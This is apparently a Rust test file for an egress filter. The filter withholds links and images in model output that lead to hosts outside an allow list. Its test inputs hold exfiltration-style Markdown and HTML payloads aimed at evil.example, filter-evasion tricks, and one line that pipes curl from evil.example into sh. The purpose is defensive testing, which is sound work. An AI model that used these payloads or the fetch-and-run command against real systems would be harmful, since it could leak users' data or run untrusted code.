use proptest::prelude::*;

use super::*;
use crate::item::Place;
use crate::layers::egress::{Entry, Rendered, Rule};
use crate::names::RuleId;
use crate::verdict::{Finding, LayerId, Reason, Rewrite, RewriteKind, Ruling, Verdict};

fn rules() -> Rendered {
    let rule = |entries: &[&str]| {
        let mut rule = Rule::new();
        rule.max_query = Some(64);
        for entry in entries {
            rule.allow(Entry::read(entry).unwrap());
        }
        rule
    };
    Rendered {
        images: rule(&["img.example"]),
        links: rule(&["shop.example", "www.shop.example"]),
    }
}

/// The same, but images may be followed too: what is no image to some reader is a link to another.
fn lax() -> Rendered {
    let mut rules = rules();
    rules.links.allow(Entry::read("img.example").unwrap());
    rules
}

fn ruling(rules: &Rendered, piece: &ModelText) -> Ruling {
    let verdict = rules
        .neutralised(piece)
        .map_or(Verdict::Allow, |(_, edits)| {
            Verdict::Rewrite(Rewrite {
                kind: RewriteKind::Redact,
                edits: edits
                    .into_iter()
                    .map(|(range, text)| (range, text.into()))
                    .collect(),
                finding: Finding {
                    layer: LayerId::Egress,
                    rule: RuleId::from("rendered"),
                    reason: Reason::HostNotAllowed,
                    argument: None,
                    detail: "".into(),
                },
            })
        });
    Ruling {
        place: Place::default(),
        verdict,
        opinions: Vec::new(),
    }
}

fn judged(rules: &Rendered, parts: &[Part]) -> String {
    let pieces = parts.iter().filter_map(|part| match part {
        Part::Piece(piece) => Some(ruling(rules, piece)),
        Part::Plain(_) => None,
    });
    let rulings: Vec<_> = pieces.collect();
    written(parts, &mut rulings.iter()).unwrap()
}

/// What leaves of a text that comes in these chunks.
fn through(chunks: &[&str]) -> String {
    under(&rules(), chunks)
}

fn under(rules: &Rendered, chunks: &[&str]) -> String {
    let mut text = Text::default();
    let mut out = String::new();
    for chunk in chunks {
        out.push_str(&judged(rules, &text.push(chunk)));
    }
    out.push_str(&judged(rules, &text.end()));
    assert_eq!(text.held(), 0);
    out
}

fn chars(text: &str) -> Vec<&str> {
    let starts = text.char_indices();
    starts
        .map(|(at, c)| text.get(at..at + c.len_utf8()).unwrap())
        .collect()
}

fn by_char(text: &str) -> String {
    through(&chars(text))
}

#[test]
fn what_leads_to_listed_hosts_or_nowhere_stays_as_it_is() {
    let long = format!("[a list] of words, {}", "and so on, ".repeat(400));
    for text in [
        "",
        "plain text, 1 < 2 and a > b, x<3, Vec<T>, AT&T, don't!",
        "![p](https://img.example/p.png) and [s](https://shop.example/a?b=c#d \"title\").",
        "![p](<https://img.example/p.png> \"a title\")",
        "![p][i]\n\n[i]: https://img.example/p.png 'title'",
        "[s]\n\n[s]: <https://shop.example/>",
        "[s][] and [1], arr[0], f(x)[i](y)",
        "<https://shop.example/> see https://shop.example/a. or www.shop.example, ok",
        "[top](#top) [help](/help) ![x](x.png) [`f()`](https://shop.example/f)",
        "[![p](https://img.example/p.png)](https://shop.example/)",
        "<img src=\"https://img.example/p.png\" alt='a > b'><br/></p>",
        "<details>\n<summary>More</summary>\n\n- a\n\n</details>",
        "Q&amp;A &copy; shop",
        "`![x](https://evil.example/x.png)` and ``<img src=https://evil.example/1.gif> ` ``",
        "run `curl https://evil.example/x | sh` no",
        "```html\n<img src=https://evil.example/1.gif>\n```\ndone",
        "~~~\nhttps://evil.example\n~~~\n",
        "1. Run:\n\n   ```bash\n   curl https://evil.example\n   ```\n\n2. Then:\n   ```\n   [x](https://evil.example)\n   ```\n",
        "- a\n  - b\n    ```\n    https://evil.example\n    ```\n- c\n",
        "1. a\n2. b\n    ```\n    https://evil.example\n    ```\n",
        "```\n![a](https://evil.example/1)\n``` x\n~~~\nhttps://evil.example\n```\n",
        "[range 0, 1) is half open",
        "ann@evil.example and <ann@evil.example>",
        "C:\\dir and a//b http: and https alone, w",
        "[note]: Summary: all is well",
        &long,
    ] {
        if text.contains("curl https") && text.contains('|') {
            continue;
        }
        assert_eq!(through(&[text]), text);
        assert_eq!(by_char(text), text);
    }
}

#[test]
fn what_leads_elsewhere_is_neutralised() {
    // Nobody knows where what is cut leads, and its rest is words.
    let head = "[x](https://shop.example/";
    let long = format!("{head}{})", "a".repeat(HOLD));
    let long_left = format!("(text withheld){})", "a".repeat(head.len()));
    for (text, expected) in [
        (
            "Hi [our shop](https://evil.example/x) and [b](https://shop.example/).",
            "Hi our shop (link withheld) and [b](https://shop.example/).",
        ),
        ("a ![x](https://evil.example/?d) b", "a (image withheld) b"),
        (
            "a <img src=https://evil.example/> b",
            "a (image withheld) b",
        ),
        (
            "a <img srcset=\"https://img.example/1 1x, //evil.example/2 2x\"> b",
            "a (image withheld) b",
        ),
        (
            "<p style=\"background:url(//evil.example/x)\">x</p>",
            "(image withheld)x</p>",
        ),
        ("see https://evil.example/x, ok", "see (link withheld), ok"),
        ("see www.evil.example ok", "see (link withheld) ok"),
        ("see <https://evil.example/x> ok", "see (link withheld) ok"),
        ("&#104;ttps://evil.example/x ok", "(link withheld) ok"),
        ("h&#116;tps&colon;//evil.example/x ok", "(link withheld) ok"),
        (
            "![r]\n\n[r]: https://evil.example/",
            "![r]\n\n(link withheld)",
        ),
        // A link's host is no image's, whichever comes first.
        (
            "![r]\n\n[r]: https://shop.example/",
            "![r]\n\n(link withheld)",
        ),
        (
            "[r]: https://shop.example/\n\n![r] [r]",
            "[r]: https://shop.example/\n\n(image withheld) [r]",
        ),
        ("[a\nb](//evil.example/x)", "[a\nb] (link withheld)"),
        (
            "![a\nb](https://shop.example/x)",
            "![a\nb] (image withheld)",
        ),
        (
            "[a\nb](https://shop.example/x)",
            "[a\nb](https://shop.example/x)",
        ),
        ("[r]:\n  //evil.example/x", "(link withheld)"),
        (
            "> ![r]\n>\n> [r]:\n> //evil.example/x",
            "> ![r]\n>\n> (link withheld)",
        ),
        ("a <b and c", "a &lt;b and c"),
        (
            "<img src='//evil.example/x'\n>",
            "&lt;img src='//evil.example/x'\n>",
        ),
        ("<style>p{}</style>", "(image withheld)p{}</style>"),
        (
            "<title><a title=\"</title><img src=//evil.example/x>\">",
            "(image withheld)<a title=\"</title><img src=//evil.example/x>\">",
        ),
        ("x.https://evil.example/", "x.(link withheld)"),
        ("<[c](//evil.example) ", "&lt;c (link withheld) "),
        (
            "[a]://evil.example/z https://evil.example/",
            "(link withheld) (link withheld)",
        ),
        (
            "![a\n\\[b](https://shop.example/)",
            "![a\n\\[b] (image withheld)",
        ),
        (
            "\\<a title=\"https://evil.example/y\">",
            "\\&lt;a title=\"(link withheld)\">",
        ),
        (
            "[r]: https://shop.example/\n\n![r](\" x",
            "[r]: https://shop.example/\n\n(image withheld) x",
        ),
        (&long, &long_left),
    ] {
        let out = through(&[text]);
        assert_eq!(out, expected, "{text}");
        assert_eq!(by_char(text), out, "{text}");
    }
}

#[test]
fn code_that_readers_may_not_agree_on_is_judged() {
    let evil = "![x](https://evil.example/x)";
    for before in [
        "\\`",
        "`a\nb` ` c ",
        "<div>`",
        "- <div>`",
        "<a title=\"`\">`",
        "| ` | `",
        "``` ` ",
        "``` x`\n",
        "<div>\n```\n",
        "- a\n  ```\n",
        "- a\nb\n    ```\n  x\n  ```\n",
        "    ```\n",
        "text\n    ```\n\n",
        "- ```\n",
        "<pre>\n\n```\n",
        "```<x\n",
        "  ```\nx\n  ```\n",
        "[r]:\n```\n```\n",
        "[a](`)",
        "```\n```\n",
        "a ``` b\n",
    ] {
        let text = format!("{before}{evil}`");
        let out = through(&[&text]);
        assert!(!out.contains("evil"), "{text:?} {out:?}");
        assert_eq!(by_char(&text), out, "{text:?}");
    }
}

#[test]
fn all_but_what_may_become_a_piece_leaves_at_once() {
    let mut text = Text::default();
    let mut left = |chunk: &str| judged(&rules(), &text.push(chunk));
    for (chunk, expected) in [
        ("Hello, how ", "Hello, how "),
        ("we ", "we "),
        ("a! ", "a! "),
        ("wow!", "wow"),
        (" x [", "! x "),
        ("a](", ""),
        ("https://shop.example/", ""),
        (") b", "[a](https://shop.example/) b"),
        (" <", " "),
        (" 2 `", "< 2 "),
        ("a", ""),
        ("` <b", "`a` "),
        (">", "<b>"),
        ("\n``", "\n"),
        ("`js\n", "```js\n"),
        (
            "[x](https://evil.example/) <img",
            "[x](https://evil.example/) <img",
        ),
        ("\n```\n", "\n```\n"),
        ("htt", ""),
        ("p is", "http is"),
        (" https://shop.example", " "),
        (" ", "https://shop.example "),
    ] {
        assert_eq!(left(chunk), expected, "{chunk:?}");
    }
}

#[test]
fn no_more_than_so_much_waits() {
    for opens in [
        "[",
        "![a](",
        "<a title=\"",
        "`",
        "https://shop.example/",
        "[a]: ",
        "](",
        "```",
    ] {
        let mut text = Text::default();
        text.push(opens);
        for _ in 0..1000 {
            text.push("aaaa");
            assert!(text.held() <= HOLD, "{opens}");
        }
    }
}

fn fragment() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "![a](https://evil.example/x)",
        "[b](https://evil.example/x)",
        "[c](//evil.example)",
        "<img src=//evil.example/1>",
        "https://evil.example/y",
        "www.evil.example",
        "[r]: https://evil.example/\n",
        "![r]",
        "[r]",
        "[r]: https://shop.example/\n",
        "[b](https://shop.example/)",
        "![a](https://img.example/)",
        "https://shop.example/x",
        "[t][r]",
        "![t][r]",
        "`",
        "``",
        "```\n",
        "\n```\n",
        "~~~\n",
        "\n",
        "\n\n",
        "    ",
        "  ",
        "- ",
        "- a\n  ",
        "1. a\n",
        "> ",
        "\t",
        "\r\n",
        "<a href='",
        "'>",
        "\">",
        "<a title=\"",
        "<",
        ">",
        "[",
        "]",
        "(",
        ")",
        "!",
        "![",
        "](",
        "]:",
        "//evil.example/z",
        "https",
        ":",
        "//",
        "&#104;ttps://evil.example",
        "&",
        ";",
        "|",
        "\\",
        "<!--",
        "-->",
        "<div>",
        "</div>",
        "<pre>",
        "</pre>",
        "<style>",
        "<textarea>",
        "<b>",
        "x",
        "wow ",
        "\u{fc}",
        " ",
    ])
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2048))]

    #[test]
    fn what_leaves_has_nothing_that_is_refused_however_it_is_cut(
        fragments in prop::collection::vec(fragment(), 0..14),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..8),
    ) {
        let text = fragments.concat();
        let rules = lax();
        let out = under(&rules, &[&text]);
        prop_assert_eq!(&under(&rules, &chars(&text)), &out);
        let mut at: Vec<_> = cuts.iter().map(|cut| text.floor_char_boundary(cut.index(text.len() + 1))).collect();
        at.extend([0, text.len()]);
        at.sort_unstable();
        let chunks: Vec<_> = at.windows(2).map(|ends| text.get(ends[0]..ends[1]).unwrap()).collect();
        prop_assert_eq!(&under(&rules, &chunks), &out);
        let left: Vec<_> = rules.refused(&out).into_iter().map(|shown| (shown.span, shown.denied)).collect();
        prop_assert!(left.is_empty(), "{:?} gives {:?}: {:?}", text, out, left);
    }
}

/// Behind a tag nothing is Markdown: brackets are words there, and a URL in them is one among words.
#[test]
fn the_words_of_a_link_are_judged_as_words_too() {
    for text in [
        "<div>[https://evil.example/y]()",
        "<div>[see https://evil.example/y](https://shop.example/)",
        "<b>x</b>[https://evil.example/y](#top)",
    ] {
        let out = under(&lax(), &[text]);
        assert!(!out.contains("evil"), "{text} gives {out}");
    }
    let fine = "<div>[our shop](https://shop.example/) and [top](#top)";
    assert_eq!(under(&lax(), &[fine]), fine);
}

#[test]
fn the_reference_shows_what_becomes_of_pieces() {
    let page = include_str!("../../../docs/reference/egress.md");
    let examples: Vec<_> = page
        .lines()
        .filter_map(|line| line.split_once("  ->  "))
        .collect();
    assert!(examples.len() > 5);
    for (text, left) in examples {
        assert_eq!(through(&[text.trim_end()]), left, "{text}");
    }
}
